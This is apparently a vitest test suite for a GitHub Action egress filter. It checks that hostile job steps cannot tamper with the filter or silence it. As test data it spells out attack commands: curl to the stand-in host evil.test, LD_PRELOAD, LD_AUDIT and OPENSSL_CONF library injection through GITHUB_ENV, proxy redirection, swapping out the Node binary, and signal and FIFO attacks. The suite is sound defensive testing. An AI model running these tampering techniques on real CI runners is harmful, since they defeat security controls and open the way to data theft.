import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { nodeAction } from '../runner/fixtures/node-action.ts';
import { type JobResult, reached, startJob, transcript, WORLD } from '../runner/runner.ts';

const FIXTURES = join(import.meta.dirname, 'fixtures');
const ACTION = '/home/runner/work/_actions/owner/egress-filter/v1';
const NODE = '/home/runner/actions-runner/cached/externals/node24/bin/node';
const DENIED = `curl -sS --max-time 60 https://evil.test/ || true`;

const files = (names: readonly string[]): Record<string, string> =>
  Object.fromEntries(names.map((name) => [name, readFileSync(join(FIXTURES, name), 'utf8')]));

/** Runs a job in which something is denied and then `attack` is tried; it ends with what was loaded into which program. */
async function attacked(
  attack: string,
  options: Partial<Parameters<typeof startJob>[0]> = {},
): Promise<{ job: JobResult; loadedInto: string; details: string; inTime: boolean }> {
  const running = await startJob({
    action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } },
    workspace: {
      'payload.c': readFileSync(join(FIXTURES, 'payload.c'), 'utf8'),
      ...files(['debugger.mjs', 'pipes.py', 'fifo.py', 'signals.py']),
    },
    ...options,
    steps: [{ name: 'denied', run: DENIED }, { name: 'attack', run: `set +e\n${attack}\ntrue` }, ...(options.steps ?? [])],
  });
  try {
    const job = await running.completed();
    // What was not up cannot be attacked.
    expect(job.step(/^Pre owner/).conclusion, transcript(job)).toBe('success');
    const { stdout } = running.machine.inside(['cat', '/tmp/loaded-into']);
    // Of fifo.py: nobody has written what it has replaced.
    const inTime = statSync(running.machine.home('work/_temp/replaced'), { throwIfNoEntry: false })?.size === 0;
    return { job, loadedInto: stdout, details: transcript(job), inTime };
  } finally {
    await running.stop();
  }
}

/** Post was what we shipped: it has reported, and has failed the job for the denial. */
function expectReport({ job, loadedInto, details }: Awaited<ReturnType<typeof attacked>>): void {
  expect(job.conclusion, details).toBe('failure');
  expect(
    job
      .step(/^Post owner/)
      .annotations.map(({ message }) => message)
      .join('\n'),
    details,
  ).toMatch(/on-deny is fail-job/);
  expect(job.page).toContain('evil.test');
  expect(loadedInto).not.toContain('post.js');
  expect(reached(job, WORLD.evil)).toEqual([]);
}

/** Post did not run at all, and the job fails for it; the guard has told why. */
function expectRefusal({ job, loadedInto, details }: Awaited<ReturnType<typeof attacked>>, why: RegExp): void {
  expect(job.conclusion, details).toBe('failure');
  expect(job.step(/^Post owner/).conclusion, details).toBe('failure');
  expect(JSON.stringify(job.log)).toMatch(why);
  expect(loadedInto).not.toContain('post.js');
  expect(reached(job, WORLD.evil)).toEqual([]);
}

describe('the files of the action', () => {
  test('cannot be written, replaced, renamed or taken away; post is what was shipped', async () => {
    const result = await attacked(`
      for file in ${ACTION}/dist/action/post.js ${ACTION}/action.yml ${ACTION}/dist/guard.js; do
        echo 'process.exit(0)' >$file && echo WRITTEN
        rm -f $file && echo REMOVED; mv $file $file.bak && echo MOVED; chmod 777 $file && echo CHMOD; ln -f /tmp/x $file && echo LINKED
      done
      mv ${ACTION} ${ACTION}.old && echo MOVED; rm -rf ${ACTION} && echo REMOVED; mv ${ACTION}/dist ${ACTION}/dist2 && echo MOVED
      mount --bind /tmp ${ACTION} 2>&1; unshare -rm mount --bind /tmp ${ACTION}; umount ${ACTION}; sudo -n mount --bind /tmp ${ACTION}; cat ${ACTION}/dist/action/post.js | wc -c`);
    expect(result.job.step('attack').log).not.toMatch(/WRITTEN|REMOVED|MOVED|CHMOD|LINKED/);
    expectReport(result);
  });

  for (const [what, path] of [
    ['its version folder', '/home/runner/work/_actions/owner/egress-filter'],
    ['the folder of its owner', '/home/runner/work/_actions/owner'],
    ['the folder of all actions', '/home/runner/work/_actions'],
    ['the folder of work', '/home/runner/work'],
  ] as const)
    test(`another tree in place of ${what}: its post does not run, or ours does; never a green job`, async () => {
      const below = ACTION.slice(path.length);
      const result =
        await attacked(`mv ${path} ${path}.old && mkdir -p ${path}${below}/dist/action && cp -r ${path}.old/. ${path}/ 2>/dev/null
        echo 'require("fs").writeFileSync("/tmp/loaded-into", "post.js")' >${path}${below}/dist/action/post.js; echo '{}' >${path}${below}/package.json; mkdir -p /home/runner/work/repo/repo`);
      expect(result.job.conclusion, result.details).toBe('failure');
      expect(result.loadedInto, result.details).toBe('');
    });

  test('a Node of the attacker in place of the runner’s does not make the job green', async () => {
    const result = await attacked(
      `mv ${NODE} ${NODE}.old; printf '#!/bin/sh\\necho post.js >/tmp/loaded-into\\n' >${NODE}; chmod 755 ${NODE}`,
    );
    expect(result.job.conclusion, result.details).toBe('failure');
  });

  test('the log can be read by the job, and written by root alone', async () => {
    const result = await attacked(`log=$(ls /var/log/egress-filter/*/log.jsonl); head -c1 $log; echo
      for way in ">>" ">"; do sh -c "echo x $way $log" && echo WRITTEN; done; rm -f $log && echo REMOVED; mv $log /tmp && echo MOVED
      truncate -s0 $log && echo CUT; mv /var/log/egress-filter /var/log/other && echo MOVED; ln -f $log /tmp/log && echo LINKED`);
    expect(result.job.step('attack').log).toMatch(/^\{$/m);
    expect(result.job.step('attack').log).not.toMatch(/WRITTEN|REMOVED|MOVED|CUT|LINKED/);
    expectReport(result);
  });
});

describe('GITHUB_ENV and GITHUB_PATH before post', () => {
  const library = 'gcc -shared -fPIC -o /tmp/payload.so payload.c || exit 7';

  test.each<[what: string, attack: string]>([
    ['LD_PRELOAD', `${library}; echo LD_PRELOAD=/tmp/payload.so >>$GITHUB_ENV`],
    ['LD_AUDIT', `${library}; echo LD_AUDIT=/tmp/payload.so >>$GITHUB_ENV`],
    [
      'OPENSSL_CONF',
      `${library}; printf 'nodejs_conf = init\\n[init]\\nengines = e\\nproviders = p\\n[p]\\nx = x\\n[x]\\nmodule = /tmp/payload.so\\nactivate = 1\\n[e]\\ny = y\\n[y]\\ndynamic_path = /tmp/payload.so\\ninit = 1\\n' >/tmp/openssl.cnf; echo OPENSSL_CONF=/tmp/openssl.cnf >>$GITHUB_ENV`,
    ],
  ])('%s: post does not run, the job fails, and the log says why', async (what, attack) => {
    expectRefusal(await attacked(attack), new RegExp(what));
  });

  test('what many set for programs of their own is taken from post: it runs and reports', async () => {
    expectReport(
      await attacked(`${library}; mkdir /tmp/lib /tmp/bin; mkfifo /tmp/fifo
        for name in libdl.so.2 libstdc++.so.6 libm.so.6 libgcc_s.so.1 libpthread.so.0 libatomic.so.1; do cp /tmp/payload.so /tmp/lib/$name; done
        for name in node bash sh sudo env; do printf '#!/bin/sh\\necho "$@" post.js >>/tmp/loaded-into\\n' >/tmp/bin/$name; chmod 755 /tmp/bin/$name; done
        printf 'LD_LIBRARY_PATH=/tmp/lib\\nNODE_PATH=/tmp/lib\\nhttps_proxy=http://${WORLD.evil}:3128\\nHTTPS_PROXY=http://${WORLD.evil}:3128\\nNODE_TLS_REJECT_UNAUTHORIZED=0\\nNODE_EXTRA_CA_CERTS=/tmp/own.pem\\nNODE_V8_COVERAGE=/tmp/coverage\\nHOSTALIASES=/tmp/aliases\\nHOME=/tmp\\nTMPDIR=/nowhere\\nTZ=:/tmp/fifo\\n' >>$GITHUB_ENV
        echo /tmp/bin >>$GITHUB_PATH`),
    );
  });

  test('NODE_OPTIONS: the runner refuses it, and inputs and state of post cannot be changed', async () => {
    const result = await attacked(
      `printf 'NODE_OPTIONS=--require /tmp/x.js\\nINPUT_ON-DENY=log\\nINPUT_AUDIT=true\\nSTATE_egress=x\\nACTIONS_RESULTS_URL=https://evil.test/\\nGITHUB_STEP_SUMMARY=/tmp/summary\\n' >>$GITHUB_ENV`,
    );
    expectReport(result);
    expect(result.job.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
  });
});

describe('processes of the job beside post', () => {
  const daemon = (command: string): string => `RUNNER_TRACKING_ID= setsid -f ${command} >/dev/null 2>&1 </dev/null`;

  test('one that kills post makes the job fail, where the kernel does not keep it from that: then post reports', async () => {
    const { job, details } = await attacked(daemon('python3 signals.py 9'), { action: { with: { policy: 'ok.test', 'on-deny': 'log' } } });
    // Where it was killed before the guard had looked, the guard has ended Runner.Worker: no step of that name.
    const post = job.steps.find(({ name }) => /^Post owner/.test(name));
    if (post?.conclusion === 'success') expect(job.page, details).toContain('evil.test');
    else expect(job.conclusion, details).toBe('failure');
  });

  test('one that would open the debugger of post gets none, and post reports', async () => {
    const result = await attacked(daemon(`${NODE} debugger.mjs ${WORLD.evil} 9999`));
    expect(result.job.step(/^Post owner/).log, result.details).not.toContain('Debugger listening');
    expectReport(result);
  });

  test('one that would write into its pipes opens none, and post reports', async () => {
    expectReport(await attacked(daemon('python3 pipes.py')));
  });

  test('one that puts a FIFO in the place of the file for its summary makes the job fail, and not wait', async () => {
    const attack = () => attacked(daemon(`python3 fifo.py '_runner_file_commands/step_summary_*'`));
    let result = await attack();
    // Who comes when the summary has been written has come too late.
    for (let tries = 1; !result.inTime && tries < 5; tries++) result = await attack();
    const { log, conclusion } = result.job.step(/^Post owner/);
    expect(conclusion, result.details).toBe('failure');
    expect(log, result.details).toMatch(/The summary of the job could not be written: .*step_summary_/);
    expect(log, result.details).toMatch(/on-deny is fail-job/);
  });

  test('one that puts a FIFO in the place of the event, which packages of the upload would read, changes nothing', async () => {
    const result = await attacked(daemon(`python3 fifo.py _github_workflow/event.json`));
    expectReport(result);
    expect(result.job.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
  });

  /** Whatever came of post, the job has failed, and nothing has left; what woke it in time is told in the log. */
  async function neverGreen(attack: string, { inTime = true } = {}): Promise<void> {
    const running = await startJob({
      action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } },
      workspace: files(['impostor.c', 'quick.c', 'signals.py', 'wake.py']),
      completionMs: 2000,
      steps: [
        { name: 'denied', run: DENIED },
        { name: 'attack', run: attack },
      ],
    });
    try {
      const job = await running.completed();
      expect(job.conclusion, transcript(job)).toBe('failure');
      expect(reached(job, WORLD.evil)).toEqual([]);
      const told = (): true | undefined => running.log().some(({ error }) => error === 'tampering') || undefined;
      if (inTime) await running.machine.until('the line of the guard', told);
    } finally {
      await running.stop();
    }
  }

  test.skipIf(process.arch !== 'x64')(
    'one that wakes post, and a library in it that hides before it is looked at (its code is for x64)',
    async () => {
      await neverGreen(`gcc -shared -fPIC -O1 -DEVIL='"${WORLD.evil}"' -o /tmp/impostor.so impostor.c || exit 7
      ${daemon('python3 wake.py')}; echo LD_PRELOAD=/tmp/impostor.so >>$GITHUB_ENV`);
    },
  );

  test('one that wakes post, and a library that ends it with success before it is looked at', async () => {
    await neverGreen(`gcc -shared -fPIC -o /tmp/quick.so quick.c || exit 7
      ${daemon('python3 wake.py')}; echo LD_PRELOAD=/tmp/quick.so >>$GITHUB_ENV`);
  });

  test('one that wakes post before it was looked at (SIGCONT)', async () => {
    await neverGreen(daemon('python3 signals.py 18'), { inTime: false });
  });
});

test('a step that runs post’s script is not post: nothing of the runner’s services opens, and the true post reports', async () => {
  const results = await attacked(`exec ${NODE} ${ACTION}/dist/action/post.js`, {
    actions: { 'acme/imposter@v1': nodeAction({ main: '' }) },
  });
  expectReport(results);
  expect(results.job.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
});
